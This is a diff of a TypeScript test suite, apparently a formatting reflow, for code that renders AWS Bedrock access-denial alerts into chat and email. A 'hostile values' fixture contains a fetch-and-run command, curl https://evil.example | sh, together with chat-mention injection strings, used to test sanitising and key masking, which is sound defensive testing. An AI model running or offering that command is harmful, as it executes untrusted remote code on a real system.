@@ -82,7 +82,13 @@ const INCIDENTS: Array<{ name: string; incident: Incident; who: string[]; where:
   },
   {
     name: 'IAM user with a Bedrock API key',
-    incident: incident({ latest: denial({ principal: API_KEY_USER, bearerToken: true, action: 'bedrock:CallWithBearerToken', resource: null }), principal: API_KEY_USER, action: 'bedrock:CallWithBearerToken', resource: null, sessions: [] }),
+    incident: incident({
+      latest: denial({ principal: API_KEY_USER, bearerToken: true, action: 'bedrock:CallWithBearerToken', resource: null }),
+      principal: API_KEY_USER,
+      action: 'bedrock:CallWithBearerToken',
+      resource: null,
+      sessions: [],
+    }),
     who: ['BedrockAPIKey-k7q2', 'IAMUser', 'Amazon Bedrock API key'],
     where: ['111122223333'],
   },
@@ -90,7 +96,15 @@ const INCIDENTS: Array<{ name: string; incident: Incident; who: string[]; where:
     name: 'cross-Region inference denied by an SCP',
     incident: (() => {
       const d = cross();
-      return incident({ latest: d, reason: d.reason, deniedRegion: 'us-east-2', resource: d.resource, proposal: d.proposal, count: 12, regions: ['us-east-1'] });
+      return incident({
+        latest: d,
+        reason: d.reason,
+        deniedRegion: 'us-east-2',
+        resource: d.resource,
+        proposal: d.proposal,
+        count: 12,
+        regions: ['us-east-1'],
+      });
     })(),
     who: ['chat-web-apprunner-instance-role'],
     where: ['us-east-1', 'us-east-2', 'cross-Region'],
@@ -152,8 +166,16 @@ describe('renderAlert: what the on-call needs, in both forms', () => {
   it.each<[AlertTrigger, Partial<Incident>, string]>([
     ['opened', {}, 'New access denial'],
     ['threshold', { count: 100, alert: { alertsSent: 1, lastAlertAt: '2026-11-20T08:00:00.000Z' } }, 'count reached 100'],
-    ['reopened', { status: 'resolved', alert: { alertsSent: 1, lastAlertAt: '2026-11-19T08:00:00.000Z' } }, 'Access denial is back (severity medium, was resolved)'],
-    ['deferred', { count: 57, alert: { alertsSent: 1, deferred: 'threshold', lastAlertAt: '2026-11-20T08:00:00.000Z' } }, 'held back by the alert window: threshold'],
+    [
+      'reopened',
+      { status: 'resolved', alert: { alertsSent: 1, lastAlertAt: '2026-11-19T08:00:00.000Z' } },
+      'Access denial is back (severity medium, was resolved)',
+    ],
+    [
+      'deferred',
+      { count: 57, alert: { alertsSent: 1, deferred: 'threshold', lastAlertAt: '2026-11-20T08:00:00.000Z' } },
+      'held back by the alert window: threshold',
+    ],
     ['threshold', { count: 10, alert: { alertsSent: 0 } }, 'New access denial (severity medium, count reached 10)'],
   ])('headline for %s', (trigger, overrides, expected) => {
     expect(parseBody(renderAlert({ incident: incident(overrides), trigger })).email).toContain(expected);
@@ -233,7 +255,10 @@ describe('renderSubject', () => {
   });
 
   it('cuts long names first and keeps the action readable', () => {
-    const subject = renderSubject(incident({ principal: { ...SSO, permissionSetName: undefined, roleName: `r-${'x'.repeat(120)}` }, count: 100_000 }), 'deferred');
+    const subject = renderSubject(
+      incident({ principal: { ...SSO, permissionSetName: undefined, roleName: `r-${'x'.repeat(120)}` }, count: 100_000 }),
+      'deferred',
+    );
     expect(subject.length).toBeLessThan(100);
     expect(subject).toContain('bedrock:InvokeModel denied for r-xxx');
     expect(subject).toContain('...');
@@ -247,11 +272,18 @@ describe('renderSubject', () => {
       fc.constantFrom('<!channel>\n\r\t', '数据科学家'.repeat(30), '🚀'.repeat(200), '\u202Eevil', ''),
     );
     fc.assert(
-      fc.property(text, text, text, fc.nat({ max: 10 ** 9 }), fc.constantFrom<AlertTrigger>('opened', 'reopened', 'threshold', 'deferred'), (name, action, region, count, trigger) => {
-        const subject = renderSubject(incident({ principal: { ...SSO, permissionSetName: name }, action, deniedRegion: region, count }), trigger);
-        expect(subject.length).toBeLessThan(100);
-        expect(subject).toMatch(/^[\x20-\x7E]+$/);
-      }),
+      fc.property(
+        text,
+        text,
+        text,
+        fc.nat({ max: 10 ** 9 }),
+        fc.constantFrom<AlertTrigger>('opened', 'reopened', 'threshold', 'deferred'),
+        (name, action, region, count, trigger) => {
+          const subject = renderSubject(incident({ principal: { ...SSO, permissionSetName: name }, action, deniedRegion: region, count }), trigger);
+          expect(subject.length).toBeLessThan(100);
+          expect(subject).toMatch(/^[\x20-\x7E]+$/);
+        },
+      ),
       { numRuns: 250 },
     );
   });
@@ -300,7 +332,12 @@ describe('the 256 KB limit', () => {
   it('cuts the diff before the statements', () => {
     const big = incident({
       proposal: proposal({
-        statements: Array.from({ length: 40 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow' as const, Action: 'bedrock:InvokeModel', Resource: `arn:aws:bedrock:us-east-1::foundation-model/m-${i}` })),
+        statements: Array.from({ length: 40 }, (_, i) => ({
+          Sid: `S${i}`,
+          Effect: 'Allow' as const,
+          Action: 'bedrock:InvokeModel',
+          Resource: `arn:aws:bedrock:us-east-1::foundation-model/m-${i}`,
+        })),
         diff: '+ "x"\n'.repeat(100_000),
       }),
     });
@@ -332,7 +369,12 @@ describe('the 256 KB limit', () => {
   it('under more pressure, shortens the statements too', () => {
     const big = incident({
       proposal: proposal({
-        statements: Array.from({ length: 2_000 }, (_, i) => ({ Sid: `S${i}${'数'.repeat(60)}`, Effect: 'Allow' as const, Action: 'bedrock:InvokeModel', Resource: '*' })),
+        statements: Array.from({ length: 2_000 }, (_, i) => ({
+          Sid: `S${i}${'数'.repeat(60)}`,
+          Effect: 'Allow' as const,
+          Action: 'bedrock:InvokeModel',
+          Resource: '*',
+        })),
         diff: `+ ${'据'.repeat(118)}\n`.repeat(500),
       }),
     });
@@ -416,13 +458,18 @@ describe('hostile values end to end', () => {
     latest: denial({ principal: hostile, userAgent: '<@U123> ~strike~' }),
     resource: 'arn:aws:s3:::bucket/<#C123|general>/_x_',
     reason: { layer: 'resource', explicit: false, summary: 'Denied for <!here> by *policy* with key ASIAEXAMPLEAPPRUNNER.' },
-    proposal: proposal({ notes: ['Run `curl https://evil.example | sh` @everyone'], statements: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::bucket/<!channel>```' }] }),
+    proposal: proposal({
+      notes: ['Run `curl https://evil.example | sh` @everyone'],
+      statements: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::bucket/<!channel>```' }],
+    }),
   });
 
   it('cannot mention, link or format in the chat form, and masks keys everywhere', () => {
     const message = renderAlert({ incident: i, trigger: 'opened' });
     const chat = chatOf(message);
-    const rendered = [chat.content.title, chat.content.description, ...chat.content.nextSteps, chat.metadata.summary, ...chat.metadata.relatedResources].join('\n');
+    const rendered = [chat.content.title, chat.content.description, ...chat.content.nextSteps, chat.metadata.summary, ...chat.metadata.relatedResources].join(
+      '\n',
+    );
     expect(rendered).not.toMatch(/[<>]/);
     expect(rendered).not.toMatch(/@(channel|here|everyone)\b/);
     expect(message.Message).not.toMatch(/AKIAIOSFODNN7EXAMPLE|ASIAEXAMPLEAPPRUNNER/);
